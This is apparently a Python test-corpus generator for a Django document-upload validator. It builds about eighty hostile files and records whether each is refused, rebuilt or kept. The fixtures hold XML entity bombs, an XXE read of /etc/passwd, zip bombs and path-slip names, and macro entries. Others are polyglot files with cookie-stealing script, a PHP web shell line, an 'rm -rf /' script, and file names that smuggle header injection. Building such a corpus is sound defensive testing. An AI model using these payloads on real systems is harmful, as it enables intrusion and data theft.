"""Uploads of people who mean harm: (name, content, what must become of it).

`refused`: nothing is kept. `made anew`: kept as a picture that holds nothing of what was hidden. `kept`: harmless by the way it is served.
Run as a program it looks into every file of a folder, with little memory and time, and tells what became of each.
"""

import io
import json
import resource
import struct
import sys
import time
import zipfile
from pathlib import Path

REFUSED, MADE_ANEW, KEPT = "refused", "made anew", "kept"
MOST_MEMORY = 512 * 1024 * 1024  # beside what Python and Django take
MOST_SECONDS = 10
JS = b"<script>alert(document.cookie)</script>"
RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
    ' Target="{target}" TargetMode="External"/></Relationships>'
)
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9))
    + "]><Types>&j;</Types>"
)
QUADRATIC = '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "' + "x" * 50_000 + '">]><Types>' + "&a;" * 5_000 + "</Types>"
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><Types>&f;</Types>'
REMOTE = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><Types/>'
PARAMETER = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p"> %p;]><Types/>'


def corpus():
    """About eighty of them."""
    from tests.documents import files

    office, archive, picture, pdf = files.office, files.archive, files.picture, files.pdf()
    png, jpeg = picture("PNG"), picture("JPEG")
    content_types = "[Content_Types].xml"
    # XML
    for what, xml in [
        ("laughs", LAUGHS),
        ("quadratic", QUADRATIC),
        ("xxe", XXE),
        ("remote-dtd", REMOTE),
        ("parameter", PARAMETER),
    ]:
        for ending in ("docx", "xlsx", "pptx"):
            yield f"{what}.{ending}", archive({content_types: xml, "main.xml": "<x/>"}), REFUSED
    yield "utf16.docx", archive({content_types: LAUGHS.encode("utf-16")}), REFUSED
    yield "deep.docx", archive({content_types: "<a>" * 100_000}), REFUSED
    yield "rels-xxe.docx", office(**{"_rels/.rels": XXE}), REFUSED
    # archives
    yield "bomb-cell.xlsx", office("xlsx", **{"xl/worksheets/sheet1.xml": b"a" * 315_000_000}), REFUSED
    yield "bomb-members.docx", archive({f"m{n}": b"" for n in range(2_500)}), REFUSED
    yield "bomb-ratio.pptx", office("pptx", **{"x.bin": b"\0" * 50_000_000}), REFUSED
    yield (
        "many-rows.xlsx",
        office("xlsx", **{"xl/worksheets/sheet1.xml": b"<row><c><v>1</v></c></row>" * 4_100_000}),
        REFUSED,
    )
    yield "nested.docx", archive({"inner.zip": archive({"inner.zip": archive({"a": b"\0" * 1_000_000})})}), REFUSED
    yield "lying-size.docx", lying(office(**{"x.bin": b"\0" * 3_000_000})), KEPT  # never unpacked; its readers stop
    for slip in ("../../etc/cron.d/x", "/etc/passwd", "..\\..\\x", "a/../../b"):
        yield f"slip-{abs(hash(slip)) % 1000}.docx", office(**{slip: b"x"}), REFUSED
    yield "encrypted.docx", encrypted(office()), REFUSED
    yield "overlap.docx", overlapping(), REFUSED
    yield "no-contents.docx", office()[:-22], REFUSED
    yield "comment.docx", office()[:-2] + struct.pack("<H", 4) + b"evil", KEPT
    yield "macro.docx", office(**{"word/vbaProject.bin": b"x"}), REFUSED
    yield "macro-case.xlsx", office("xlsx", **{"xl/VBAPROJECT.BIN": b"x"}), REFUSED
    yield "macro.odt", files.open_document("text", **{"Scripts/python/x.py": b"x"}), REFUSED
    yield "basic.ods", files.open_document("spreadsheet", **{"Basic/Standard/x.xml": b"x"}), REFUSED
    for kind in ("attachedTemplate", "oleObject", "frame", "subDocument", "image", "video", "externalLinkPath"):
        yield (
            f"fetch-{kind}.docx",
            office(**{"word/_rels/settings.xml.rels": RELS.format(kind=kind, target="https://example.org/x.dotm")}),
            REFUSED,
        )
    outside = RELS.format(kind="attachedTemplate", target="https://example.org/x.dotm")
    yield "fetch-case.docx", office(**{"word/_rels/settings.xml.RELS": outside}), REFUSED
    yield (
        "fetch-mode.docx",
        office(**{"word/_rels/settings.xml.rels": outside.replace('"External"', '"external"')}),
        REFUSED,
    )
    yield (
        "smb.docx",
        office(**{"word/_rels/document.xml.rels": RELS.format(kind="attachedTemplate", target="//203.0.113.1/x")}),
        REFUSED,
    )
    yield (
        "link.docx",
        office(**{"word/_rels/document.xml.rels": RELS.format(kind="hyperlink", target="https://example.org")}),
        KEPT,
    )
    # what it is not
    for ending in ("docx", "xlsx", "pptx", "odt", "pdf", "png", "jpg", "webp"):
        yield f"page.{ending}", b"<!doctype html>" + JS, REFUSED
    yield "html.docx", b"PK<html>" + JS, REFUSED
    yield "bom.pdf", b"\xef\xbb\xbf<html>" + JS, REFUSED
    yield "utf16.png", "<svg onload=alert(1)>".encode("utf-16"), REFUSED
    yield "svg.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", REFUSED
    yield "svg.jpg", b"<?xml version='1.0'?><svg onload='alert(1)'/>", REFUSED
    yield "ole.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 99, REFUSED
    yield "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 99, REFUSED
    yield "macro.xlsm", office("xlsx"), REFUSED
    yield "program.pdf", b"MZ" + b"\0" * 99, REFUSED
    yield "elf.png", b"\x7fELF" + b"\0" * 99, REFUSED
    yield "script.sh", b"#!/bin/sh\nrm -rf /", REFUSED
    yield "phar.jpg", b"<?php __HALT_COMPILER(); ?>" + jpeg, REFUSED
    yield "gif.jpg", b"GIF89a/*" + JS, REFUSED
    yield "zip.zip", archive({"a": "b"}), REFUSED
    yield "page.html", JS, REFUSED
    # two things at once
    yield "tail.png", png + JS, MADE_ANEW
    yield "tail.jpg", jpeg + b"<?php system($_GET[0]); ?>", MADE_ANEW
    yield "zip-behind.jpg", jpeg + archive({"evil.js": b"alert(1)"}), MADE_ANEW
    yield "comment.jpg", jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(JS) + 2) + JS + jpeg[2:], MADE_ANEW
    yield "html-behind.pdf", pdf + JS + b"%%EOF", KEPT
    yield "javascript.pdf", pdf.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), KEPT
    # damage
    yield "empty.pdf", b"", REFUSED
    yield "cut.pdf", pdf[:-10], REFUSED
    yield "cut.png", png[:40], REFUSED
    yield "cut.docx", office()[: len(office()) // 2], REFUSED
    yield "pixels.png", files.png_of(60_000, 60_000), REFUSED
    yield "pixels2.png", files.png_of(2**31 - 1, 1), REFUSED
    yield "zero.png", files.png_of(0, 0), REFUSED
    yield "head.png", b"\x89PNG\r\n\x1a\n" + JS, REFUSED
    yield "head.jpg", b"\xff\xd8\xff" + JS, REFUSED
    yield "head.webp", b"RIFF\x00\x00\x00\x00WEBP" + JS, REFUSED
    yield "head.docx", b"PK\x03\x04" + JS, REFUSED
    # names
    for name in (
        "notulen.pdf.exe",
        "notulen.exe\u202efdp.",
        "notulen.pdf\0.exe",
        "notulen.pdf .exe",
        "CON",
        "no-ending",
        ".htaccess",
        "x.pdf;.php",
    ):
        yield name, pdf, REFUSED
    for name in (
        "../../notulen.pdf",
        "..\\..\\notulen.pdf",
        "a\r\nSet-Cookie: x=1.pdf",
        'a";filename="b.exe.pdf',
        "x" * 300 + ".pdf",
        "COM1.pdf",
        "\u202efdp.exe.pdf",
    ):
        yield name, pdf, KEPT


def lying(data):
    """Says of its largest member that it is small, in both of its headers."""
    for size in (3_000_000,):
        data = data.replace(struct.pack("<L", size), struct.pack("<L", 1_000))
    return data


def encrypted(data):
    """The bit that says so, set in every entry."""
    data = bytearray(data)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        while place >= 0:
            data[place + at] |= 1
            place = data.find(mark, place + 4)
    return bytes(data)


def overlapping():
    """Thousands of entries that share one compressed piece."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"\0" * 900_000)
        first = archive.infolist()[0]
        for n in range(1_500):
            twin = zipfile.ZipInfo(f"m{n}")
            for fact in ("CRC", "compress_size", "file_size", "header_offset", "compress_type", "flag_bits"):
                setattr(twin, fact, getattr(first, fact))
            archive.filelist.append(twin)
    return made.getvalue()


def look(folder):
    """In a process of its own: what became of each, in JSON."""
    import django

    django.setup()
    from django.core.exceptions import ValidationError
    from django.core.files.base import ContentFile

    from documents.uploads import look_into

    def upload(name, content):
        """With its name as it came: Django's own class for uploads would already make it harmless."""
        made = ContentFile(content)
        made.name = name
        return made

    used = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
    resource.setrlimit(resource.RLIMIT_AS, (used + MOST_MEMORY, used + MOST_MEMORY))
    for path in sorted(folder.glob("*.bin")):
        name, begun = json.loads(path.with_suffix(".json").read_text()), time.process_time()
        found = {"name": name, "kept": "", "type": "", "why": "", "crash": ""}
        try:
            paper = look_into(upload(name, path.read_bytes()))
            paper.content.seek(0)  # as saving does
            found |= {"kept": paper.name, "type": paper.content_type, "content": paper.content.read().hex()[:400_000]}
        except ValidationError as error:
            found["why"] = error.code
        except BaseException as error:
            found["crash"] = repr(error)
        print(json.dumps(found | {"seconds": time.process_time() - begun}), flush=True)


if __name__ == "__main__":
    look(Path(sys.argv[1]))
